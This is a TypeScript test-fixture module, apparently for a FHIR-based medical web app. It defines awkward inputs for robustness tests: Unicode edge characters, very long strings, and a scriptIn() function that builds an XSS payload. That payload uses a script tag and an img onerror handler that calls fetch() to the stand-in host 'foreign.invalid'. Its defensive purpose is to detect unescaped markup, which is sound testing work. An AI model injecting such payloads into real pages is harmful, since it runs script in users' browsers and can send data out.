/** A server that nothing may ever be asked of. */
export const FOREIGN = 'https://foreign.invalid/fhir';

export const RIGHT_TO_LEFT_OVERRIDE = '\u202e';
export const ZERO_WIDTH_SPACE = '\u200b';
export const LONE_SURROGATE = '\ud83d';

/** Markup that would leave a trace in the page, and ask the foreign server, if any of it were ever taken for markup. */
export function scriptIn(place: string): string {
  return `<script>window.__pwned='${place}'</script><img src=x onerror="window.__pwned='${place}';fetch('${FOREIGN}/${place}')">`;
}

/** 5 kB without a place to break. */
export const LONG_WORD = 'incomprehensibilities'.repeat(240);

/** 100 kB of prose. */
export const LONG_TEXT = 'Pain runs down the left leg, worse on sitting, better on lying down. '.repeat(1500);
